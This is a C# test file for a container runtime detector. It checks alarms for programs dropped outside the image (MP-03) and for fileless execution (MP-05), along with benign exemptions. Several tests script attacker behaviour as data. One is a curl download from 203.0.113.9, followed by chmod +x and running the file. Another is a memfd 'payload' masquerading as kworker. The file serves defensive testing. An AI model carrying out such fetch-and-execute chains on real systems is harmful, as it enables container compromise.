using Detection.Tests.Proof;
using Pipeline.Detection.MaliciousProgram;
using Pipeline.Domain.Events;
using Testing;
using Testing.Scripts;
using static Detection.Tests.MaliciousProgram.ProgramScript;

namespace Detection.Tests.MaliciousProgram;

/// <summary>MP-03 and MP-05: programs that are not in the image, or in no file at all.</summary>
public sealed class DropAndExecuteTests
{
    private const string Plain = "raised MP-03 High /opt/a: not-in-image";

    [Fact]
    [Raises("MP-03")]
    public void Alarms_on_a_program_of_the_writable_layer() =>
        RunningContainer().Runs(11, "/opt/a", ["a"], File(Dropped())).ThenAlarms(Detectors, Plain);

    [Fact]
    [Raises("MP-03")]
    public void Names_who_fetched_it_a_moment_ago() =>
        RunningContainer().Runs(11, "/usr/bin/curl", "curl", "-o", "/tmp/a", "http://203.0.113.9/a")
            .Does(FileOperation.Create, "/tmp/a", Dropped()).Does(FileOperation.Write, "/tmp/a", Dropped())
            .Runs(12, "/bin/chmod", "chmod", "+x", "/tmp/a").Does(FileOperation.ChangeMode, "/tmp/a", Dropped(), 0x1ed)
            .Runs(13, "/tmp/a", ["a"], File(Dropped()))
            .ThenAlarms(
                Detectors,
                "raised MP-03 High /tmp/a: not-in-image recent written-by:/usr/bin/curl made-executable temporary-directory");

    [Fact]
    [Raises("MP-03")]
    public void Alarms_on_a_program_that_was_just_written_to_a_mounted_temporary_directory() =>
        RunningContainer().Runs(11, "/usr/bin/python3", "python3", "/srv/a.py")
            .Does(FileOperation.Create, "/tmp/a", Dropped() with { Layer = FileLayer.Mount })
            .Runs(12, "/tmp/a", ["a"], File(Dropped() with { Layer = FileLayer.Mount }))
            .ThenAlarms(Detectors, "raised MP-03 High /tmp/a: not-in-image recent temporary-directory");

    [Fact]
    [Raises("MP-03")]
    public void Alarms_again_only_as_a_repeat() =>
        RunningContainer().Runs(11, "/opt/a", ["a"], File(Dropped())).After(60).Runs(12, "/opt/a", ["a"], File(Dropped()))
            .ThenAlarms(Detectors, Plain, "recurred MP-03 x2");

    [Fact]
    [Spares("MP-03")]
    public void Says_nothing_of_programs_of_the_image_and_of_volumes() =>
        RunningContainer().Runs(11, "/bin/ls", ["ls"], File(InImage()))
            .Runs(12, "/data/tool", ["tool"], File(InImage() with { Layer = FileLayer.Mount }))
            .ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-03")]
    public void Says_nothing_of_a_file_that_is_older_than_the_container() =>
        RunningContainer().Runs(11, "/opt/a", ["a"], File(Dropped() with { ChangeTimeNs = 5 })).ThenAlarms(Detectors);

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    [Spares("MP-03")]
    public void Says_nothing_of_a_file_whose_owner_an_entry_point_changed(bool inodeIsTold) =>
        RunningContainer().Runs(11, "/bin/chown", "chown", "-R", "app", "/opt")
            .Does(FileOperation.ChangeOwner, "/opt/a", inodeIsTold ? Dropped() : default)
            .After(4000).Runs(12, "/opt/a", ["a"], File(Dropped())).ThenAlarms(Detectors);

    [Fact]
    [Raises("MP-03")]
    public void Takes_a_file_that_was_only_seen_to_become_executable_for_a_dropped_one() =>
        RunningContainer().Runs(11, "/bin/chmod", "chmod", "+x", "/opt/a").Does(FileOperation.ChangeMode, "/opt/a", Dropped(), 0x1ed)
            .Runs(12, "/opt/a", ["a"], File(Dropped())).ThenAlarms(Detectors, Plain);

    [Fact]
    [Spares("MP-03")]
    public void Says_nothing_of_what_a_package_manager_wrote() =>
        RunningContainer().Runs(11, "/usr/local/bin/python3.12", "python3.12", "/usr/local/bin/pip", "download", "black")
            .Does(FileOperation.Create, "/opt/a", Dropped()).By("c1", 10, "/usr/bin/app").Runs(12, "/opt/a", ["a"], File(Dropped()))
            .ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-03")]
    public void Says_nothing_in_images_that_build() =>
        RunningContainer(Some.PlainSpec() with { Image = "gcr.io/kaniko-project/executor:v1" }).Runs(11, "/opt/a", ["a"], File(Dropped()))
            .ThenAlarms(Detectors);

    [Fact]
    [Spares("MP-03")]
    public void Says_nothing_of_an_exception_of_the_policy() =>
        RunningContainer().Runs(11, "/opt/a", ["a"], File(Dropped()))
            .ThenAlarms(Under(MaliciousProgramPolicy.Default with { DroppedExceptions = ["/opt/*"] }));

    [Fact]
    [Raises("MP-03")]
    public void Keeps_what_was_dropped_in_mind_over_a_restart_of_the_container() =>
        RunningContainer().Died("c1").After(7200).Started("c1").By("c1", 20, "/opt/a").Execs("/opt/a", ["a"], File(Dropped()))
            .ThenAlarms(Detectors, Plain);

    [Fact]
    [Raises("MP-05", "MP-09")]
    public void Alarms_on_a_memory_file_whatever_it_was_called_with() =>
        RunningContainer().Runs(11, "/memfd:payload (deleted)", ["kworker"], File(new FileReference { Layer = FileLayer.Memory }))
            .Run(Detectors).ShouldContain(a => ((Pipeline.Domain.Alarms.AlarmRaised)a).RuleId == "MP-05");

    [Fact]
    [Raises("MP-05")]
    public void Alarms_on_a_program_in_shared_memory() =>
        RunningContainer().Runs(11, "/dev/shm/x", "x").ThenAlarms(Detectors, "raised MP-05 Critical /dev/shm/x: fileless:/dev/shm/x");

    [Fact]
    [Spares("MP-05")]
    public void Says_nothing_of_the_runtimes_own_memory_file() =>
        RunningContainer()
            .By(new ScriptedTask { Container = "c1", Tgid = 20, Flags = TaskFlags.Runtime | TaskFlags.Started })
                .Execs("/memfd:runc_cloned:/proc/self/exe", "runc", "init")
            .By(new ScriptedTask { Container = "c1", Tgid = 21, Flags = TaskFlags.None })
                .Execs("/memfd:runc_cloned:/proc/self/exe", "runc", "init")
            .ThenAlarms(Detectors);

    [Fact]
    [Raises("MP-05")]
    public void Says_nothing_of_systemds_executor_but_of_anybody_else_of_that_name()
    {
        const string executor = "/memfd:systemd-executor (deleted)";
        var file = new FileReference { Layer = FileLayer.Memory };

        var alarms = RunningContainer().Runs(11, "/usr/lib/systemd/systemd", "systemd").Runs(12, executor, ["systemd-executor"], File(file))
            .By("c1", 10, "/usr/bin/app").Runs(13, executor, ["systemd-executor"], File(file)).Run(Detectors);

        AlarmText.Short(alarms).ShouldBe([$"raised MP-05 Critical {executor}: fileless:{executor}"]);
    }
}
